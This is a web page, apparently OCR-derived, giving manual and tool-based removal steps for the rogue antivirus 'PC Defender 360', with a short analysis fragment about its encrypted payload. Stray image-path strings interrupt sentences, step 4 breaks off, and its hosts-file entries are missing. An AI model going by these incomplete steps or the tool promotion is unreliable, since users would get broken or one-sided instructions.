After loading on the malicious domain, PC Defender 360 will downloadthe SCC file (The PE file after the encryption processing), and then decrypt as “idfdata.bin”.

009D8BF3   push 0x9DF46C
009DA6F7   push 0x9DF498
009DAB59   push 0x9DF4F4


How to Remove PC Defender 360? (Removal Guide)

Optional I Remove PC Defender 360 with automatic Remover Anvi Smart Defender
Step 1 > Reboot your computer into Safe Mode with Networking. To do this, turn your computer off and then back on and immediately when you see anything on the screen, start tapping the F8key on your keyboard. Eventually you will be brought to a menu similar to the one below:
boot into safe mode
Using the arrow keys on your keyboard, select Safe Mode with Networking and press Enter on your keyboard.

Step 2 > Download, install the automatic remover-Anvi Smart Defender to scan out and remove the residing files of the PC Defender 360 infection.


Anvi Smart Defender is a powerful anti-malware program which is designed to detect and remove virus, malware, Trojan, worms and PUP. You are highly recommended to download and install the free or paid version of Anvi Smart Defender to remove any possible potential unwanted program related to PC Defender 360.

1. Download and install the paid or free version of Anvi Smart Defender Anti-malware software.

2. After you install the program, please open it, and switch to Scan tab, perform quick or full scan to eliminate possible virus infection file. Anvi Smart Defender will scan registry objects automatically to make sure your registry entries are clean and neat.
3. Once the scan is over, you can click view button to check the detail information of the detection. Please make sure to click “Remove” button to completely remove the malicious files from your computer.

Option II Remove PC Defender 360 manually
1. Make sure that you can see hidden and operating system protected files in Windows.
Open Folder Options by clicking the Start button,clicking Control Panel, clicking Appearance and Personalization, and then clicking Folder Options.

Click theView tab. Under Advanced settings, click Show hidden files, folders, and drives, and then click OK.


2. Delete the malicious files created by PC Defender 360.
For Windows XP/2003 users, go to
C:\Documents and Settings\All Users\Application Data\ifdstore\*.*
C:\Documents and Settings\All Users\Desktop\PC Defender 360.lnk
For Windows 7/Vista/8 users, go to
C:\Users\Default\Desktop\PC Defender 360.lnk



3. Remove malicious registry entries added by PC Defender 360
Click on the “Start” button and in the “Search programs and files” field, type “regedit” and click the “Enter” button.

To delete all malicious files and registry entries of PC Defender 360, go to Edit > Find, in the search box text PC Defender 360 and ifdstore, then click on the Find Next, it will show you all the PC Defender 360 registry and files, right click on those items and Delete all of them.

Please make sure delete all registries entries related to PC Defender 360.

4. Block the malicious and

Go to: C:\WINDOWS\system32\drivers\etc.

Double-click “hosts” file to open it. Choose to open with Notepad.

The default hosts file should be only one line: localhost in Windows XP and localhost ::1 in Windows Vista.

Please addthe following items behide the default line.

That’s all manual and automaticremoval instruction about PC Defender 360 virus, should you have any problem, please leave a reply below, we will try our best to reply you as soon aspossible.

Comments are closed.